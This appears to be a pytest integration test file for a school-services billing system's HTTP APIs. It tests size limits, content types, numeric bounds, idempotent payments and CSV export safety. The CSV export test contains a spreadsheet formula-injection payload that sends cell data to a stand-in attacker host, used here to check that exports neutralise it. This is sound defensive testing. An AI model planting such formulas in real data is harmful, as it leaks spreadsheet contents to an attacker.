"""Inputs and outputs of the HTTP APIs, on the real processes, broker and databases (issue 15):

- a body over the size limit is refused 413, whether it declares its length or is sent chunked;
  the register imports have their own, larger limit;
- a body not declared as JSON where JSON is expected is refused 415;
- numbers outside sane bounds (a per-pupil rate of `1e999999`) are refused 400 naming the field,
  and every numeric field of every request schema has bounds (read off the services' modules);
- a retried `POST /payments` with the same `Idempotency-Key` gets the first answer and records one
  payment, on SQLite and PostgreSQL, also when the two copies race; the same key with another
  body is refused 422; every POST that records money or a purchase takes the header;
- a CSV export opens safely in a spreadsheet: a school named like a formula is neutralised.
"""
from __future__ import annotations

import csv
import http.client
import inspect
import io
import json
import threading
import urllib.error
import urllib.parse
import urllib.request

import pytest
from marshmallow import Schema
from nameko.extensions import ENTRYPOINT_EXTENSIONS_ATTR

import billing.entrypoints.service
import catalogue.entrypoints.service
import membership.entrypoints.service
import scheduling.entrypoints.service
from shared.fields import unbounded_numbers
from shared.http import JsonHttp
from tests import tokens
from tests.conftest import billing_run, eventually, http_json, http_text
from tests.integration.billing_upstream import Upstream

ENTRYPOINT_MODULES = (membership.entrypoints.service, catalogue.entrypoints.service,
                      billing.entrypoints.service, scheduling.entrypoints.service)
SERVICE_CLASSES = {"membership": membership.entrypoints.service.MembershipService,
                   "catalogue": catalogue.entrypoints.service.CatalogueService,
                   "billing": billing.entrypoints.service.BillingService,
                   "scheduling": scheduling.entrypoints.service.SchedulingService}
# The POSTs that record money or a purchase: each must honour Idempotency-Key.
MONEY_AND_PURCHASES = {("billing", "/payments"), ("billing", "/billing-runs"),
                       ("billing", "/invoices/<string:number>/corrections"), ("catalogue", "/subscriptions"),
                       ("catalogue", "/subscriptions/<string:subscription_id>/renewal"),
                       ("scheduling", "/sessions/<string:session_id>/bookings")}
SI = ("SI-CORE", "School improvement core offer", "school_improvement", "standard")
SMALL_LIMIT = 2048


def send(url: str, body: bytes, *, method: str = "POST", headers: dict | None = None) -> tuple[int, dict, dict]:
    """A raw request with trust staff's token (the limits come after authentication)."""
    request = urllib.request.Request(url, data=body, method=method,
                                     headers={"Content-Type": "application/json",
                                              **tokens.bearer(tokens.trust_staff()), **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            return response.status, json.loads(response.read() or b"null"), dict(response.headers)
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read() or b"null"), dict(exc.headers)


def send_chunked(url: str, body: bytes) -> tuple[int, dict]:
    """POST `body` with `Transfer-Encoding: chunked` (no Content-Length), in 512-byte chunks."""
    parts = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=20)
    try:
        connection.request("POST", parts.path, body=(body[i:i + 512] for i in range(0, len(body), 512)),
                           headers={"Content-Type": "application/json", **tokens.bearer(tokens.trust_staff())},
                           encode_chunked=True)
        response = connection.getresponse()
        return response.status, json.loads(response.read() or b"null")
    finally:
        connection.close()


def invoiced(stack, amqp_uri: str, urn: str, name: str, price: int = 100000) -> dict:
    billing = stack.url("billing")
    up = Upstream(amqp_uri)
    up.member_joined(urn, name)
    up.subscription_started(up.sla(urn, name, SI, price, "2026-04-01", "2027-03-31"))
    eventually(lambda: http_json("GET", f"{billing}/charges?urn={urn}&status=uninvoiced")[1]["count"] == 1,
               message="the charge")
    run = billing_run(billing, {"period": "2026/27", "issue_date": "2026-09-01"})
    assert run["rerun"] is False, run
    return run


# -- without processes: what the services declare ----------------------------------------------------------
def test_every_number_in_every_request_schema_is_bounded_and_finite():
    found = {}
    for module in ENTRYPOINT_MODULES:
        schemas = [cls for _, cls in inspect.getmembers(module, inspect.isclass)
                   if issubclass(cls, Schema) and cls.__module__ == module.__name__]
        assert schemas, module.__name__
        for cls in schemas:
            unbounded = unbounded_numbers(cls())
            if unbounded:
                found[f"{module.__name__}.{cls.__name__}"] = unbounded
    assert not found, f"numeric request fields without bounds (use shared.fields): {found}"


def test_every_post_that_records_money_or_a_purchase_takes_an_idempotency_key():
    declared = set()
    for service, service_class in SERVICE_CLASSES.items():
        for _name, method in inspect.getmembers(service_class, inspect.isfunction):
            for entrypoint in getattr(method, ENTRYPOINT_EXTENSIONS_ATTR, ()):
                if isinstance(entrypoint, JsonHttp) and entrypoint.idempotent:
                    declared.add((service, entrypoint.url))
    assert declared == MONEY_AND_PURCHASES


# -- on the running services -------------------------------------------------------------------------------
class TestRefusedBodies:
    def test_size_type_and_bounds_are_refused_naming_the_field_and_the_rule(self, stack_factory, sqlite_databases):
        stack = stack_factory(sqlite_databases, {"MAX_BODY_BYTES": str(SMALL_LIMIT)}).start(
            "membership", "catalogue", "billing")
        payments = f"{stack.url('billing')}/payments"
        padded = json.dumps({"invoice_number": "BLT-000001", "amount_pence": 1, "received_on": "2026-09-02",
                             "reference": "x" * 90, "pad": "y" * SMALL_LIMIT}).encode()
        assert len(padded) > SMALL_LIMIT

        # 413, from the declared length, before anything is read
        status, body, _ = send(payments, padded)
        assert status == 413, body
        assert body["error"] == "payload_too_large" and body["fields"] == {"_body": [f"at most {SMALL_LIMIT} bytes"]}
        assert "MAX_BODY_BYTES" in body["message"]
        # 413 while reading a body sent without a length (chunked)
        status, body = send_chunked(payments, padded)
        assert status == 413, body
        assert body["fields"] == {"_body": [f"at most {SMALL_LIMIT} bytes"]}
        # a chunked body within the limit is read as usual (here: refused for its content, not its size)
        status, body = send_chunked(payments, b'{"invoice_number": "BLT-000001"}')
        assert status == 400 and set(body["fields"]) == {"amount_pence", "received_on"}, body
        # the register imports have their own limit (MAX_IMPORT_BODY_BYTES): this size is fine there
        status, body, _ = send(f"{stack.url('membership')}/imports/links", b"a" * (SMALL_LIMIT + 100),
                               headers={"Content-Type": "text/csv"})
        assert status == 400 and body["error"] == "invalid_request", body

        # 415: JSON is expected, and the body says it is something else (or nothing)
        good = json.dumps({"invoice_number": "BLT-000001", "amount_pence": 1, "received_on": "2026-09-02"}).encode()
        for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
            status, body, _ = send(payments, good, headers={"Content-Type": content_type})
            assert status == 415, (content_type, body)
            assert body["error"] == "unsupported_media_type"
            assert body["fields"] == {"Content-Type": ["must be application/json"]}
        status, body, _ = send(payments, good, headers={"Content-Type": "application/json; charset=utf-8"})
        assert status == 422 and body["field"] == "invoice_number", body  # read as JSON: no such invoice

        # numbers outside sane bounds: 400 naming the field, never a 500 in rounding
        offering = {"code": "SI-HUGE", "name": "Huge", "service_area": "school_improvement",
                    "vat_treatment": "standard",
                    "edition": {"year": 2026, "terms": {"model": "per_pupil", "rate_by_phase": {"primary": "1"}}}}
        catalogue_url = f"{stack.url('catalogue')}/offerings"
        for rate in ('"1e999999"', "1e999999", '"NaN"', "NaN", "Infinity", '"1e-999999"', "1" + "0" * 400):
            raw = json.dumps(offering).replace('{"primary": "1"}', '{"primary": %s}' % rate).encode()
            status, body, _ = send(catalogue_url, raw)
            assert status == 400, (rate[:20], body)
            assert ("edition" in body["fields"] and "rate_by_phase" in json.dumps(body["fields"])) or \
                "_body" in body["fields"], (rate[:20], body)
        status, body, _ = send(catalogue_url, json.dumps(offering).replace('"1"', '"1e999999"').encode())
        assert body["fields"] == {"edition": {"terms": {"rate_by_phase": {"primary": {"value": [
            "Must be greater than or equal to 0 and less than or equal to 10000000."]}}}}}, body
        status, body, _ = send(payments, json.dumps({"invoice_number": "BLT-000001", "amount_pence": 10 ** 30,
                                                     "received_on": "2026-09-02"}).encode())
        assert status == 400 and list(body["fields"]) == ["amount_pence"], body
        # nothing above was recorded, and every service still answers
        assert http_json("GET", f"{stack.url('catalogue')}/offerings/SI-HUGE")[0] == 404
        for name in ("membership", "catalogue", "billing"):
            assert http_json("GET", f"{stack.url(name)}/ready")[0] == 200


class TestIdempotencyKey:
    def test_a_retried_payment_is_answered_once_and_recorded_once(self, stack_factory, databases, amqp_uri):
        stack = stack_factory(databases).start("billing")
        billing = stack.url("billing")
        invoiced(stack, amqp_uri, "110031", "Idempotent Primary School")
        payment = json.dumps({"invoice_number": "BLT-000001", "amount_pence": 25000,
                              "received_on": "2026-09-10", "reference": "BACS 1"}).encode()

        first = send(f"{billing}/payments", payment, headers={"Idempotency-Key": "pay-1"})
        retry = send(f"{billing}/payments", payment, headers={"Idempotency-Key": "pay-1"})
        assert first[0] == retry[0] == 201, (first, retry)
        assert retry[1] == first[1] and retry[2].get("Idempotent-Replayed") == "true"
        assert "Idempotent-Replayed" not in first[2]
        invoice = http_json("GET", f"{billing}/invoices/BLT-000001")[1]
        assert invoice["paid_pence"] == 25000, invoice  # once, not twice

        # the same key with another request: refused, nothing recorded
        other = payment.replace(b"25000", b"30000")
        status, body, _ = send(f"{billing}/payments", other, headers={"Idempotency-Key": "pay-1"})
        assert status == 422 and body["fields"] == {"Idempotency-Key": ["one key, one request"]}, body
        # a refused request frees its key: fixed and sent again with the same key, it is recorded
        wrong = payment.replace(b"BLT-000001", b"BLT-000404")
        assert send(f"{billing}/payments", wrong, headers={"Idempotency-Key": "pay-2"})[0] == 422
        assert send(f"{billing}/payments", other, headers={"Idempotency-Key": "pay-2"})[0] == 201
        # without a key a POST is not de-duplicated (the client asked for nothing)
        assert send(f"{billing}/payments", payment.replace(b"25000", b"100"))[0] == 201
        assert http_json("GET", f"{billing}/invoices/BLT-000001")[1]["paid_pence"] == 25000 + 30000 + 100

        # two copies racing with one key: one payment; each answer is the first's, or 409 while it runs
        racing = payment.replace(b"25000", b"700")
        start = threading.Barrier(2)
        answers = []

        def post():
            start.wait(timeout=30)
            answers.append(send(f"{billing}/payments", racing, headers={"Idempotency-Key": "pay-race"}))

        threads = [threading.Thread(target=post) for _ in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        statuses = sorted(status for status, _, _ in answers)
        assert statuses in ([201, 201], [201, 409]), answers
        if statuses == [201, 201]:
            assert answers[0][1] == answers[1][1]
        assert http_json("GET", f"{billing}/invoices/BLT-000001")[1]["paid_pence"] == 25000 + 30000 + 100 + 700
        assert send(f"{billing}/payments", racing, headers={"Idempotency-Key": "pay-race"})[0] == 201

    def test_a_malformed_key_is_refused_naming_the_header(self, stack_factory, sqlite_databases):
        stack = stack_factory(sqlite_databases).start("billing")
        status, body, _ = send(f"{stack.url('billing')}/payments", b"{}", headers={"Idempotency-Key": "k" * 201})
        assert status == 400 and body["fields"] == {"Idempotency-Key": ["1 to 200 printable characters"]}, body


class TestCsvExports:
    def test_a_school_named_like_a_formula_is_neutralised_in_the_invoice_export(self, stack_factory,
                                                                              sqlite_databases, amqp_uri):
        stack = stack_factory(sqlite_databases).start("billing")
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
        invoiced(stack, amqp_uri, "110032", formula)
        rows = list(csv.DictReader(io.StringIO(http_text(f"{stack.url('billing')}/exports/invoices.csv", timeout=20))))
        assert [row["payer_name"] for row in rows] == ["'" + formula]
        assert rows[0]["net_pence"] == "100000"  # numbers stay numbers
        assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
